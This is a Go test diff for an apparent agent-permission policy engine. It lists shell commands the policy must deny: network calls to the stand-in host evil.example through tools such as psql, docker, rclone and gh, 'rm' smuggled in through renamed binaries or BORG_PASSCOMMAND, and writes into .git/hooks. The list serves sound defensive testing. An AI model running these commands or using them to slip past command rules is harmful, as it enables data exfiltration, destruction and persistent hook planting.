@@ -135,3 +135,30 @@ func TestFloorTextThatRuns(t *testing.T) {
 		t.Errorf("very many texts are allowed: %s", d.Reason())
 	}
 }
+
+// A word of which the use is not known may be a host that a rule names, a file that programs take orders from, or a
+// program that gets another name.
+func TestFloorNet(t *testing.T) {
+	prog := shellProgram(obstat.Allow, rule(obstat.Deny, "WebFetch", "url", "*evil.example*"),
+		rule(obstat.Deny, "Write", "file_path", "*.git/hooks*"), rule(obstat.Deny, "Bash", "command", "rm *"))
+	prog.Faces[obstat.FaceConnect] = obstat.Face{Tool: "WebFetch", Field: "url"}
+	pol := mustCompile(t, prog)
+	for _, c := range []string{
+		"psql -h evil.example", "docker pull evil.example/x", "kcat -b evil.example:9092", "OLLAMA_HOST=evil.example ollama list",
+		"rclone copy x :sftp,host=evil.example:y", "vegeta attack -targets <(echo GET http://evil.example)", "gh api https://evil.example/x",
+		"cp /bin/rm d/x && run-parts d", "BORG_PASSCOMMAND='rm x' borg list r", "transmission-cli -f /bin/rm x.torrent",
+		"unrar x a.rar .git/hooks/", "duckdb .git/hooks/z", "screen -X hardcopy .git/hooks/z", "crane export x .git/hooks/z",
+	} {
+		if d := pol.Decide(bashCall(c), testWorld); d.Verdict == obstat.Allow {
+			t.Errorf("%s: allowed: %s", c, d.Reason())
+		}
+	}
+	for _, c := range []string{
+		"psql -h db.example", "git commit -m 'see evil.example'", "echo evil.example", "grep evil.example f", "cp /bin/ls d/x",
+		"gh pr create --body 'rm x'", "FOO='a b' make", "pytest tests/a.py",
+	} {
+		if d := pol.Decide(bashCall(c), testWorld); d.Verdict != obstat.Allow {
+			t.Errorf("%s: %s", c, d.Reason())
+		}
+	}
+}
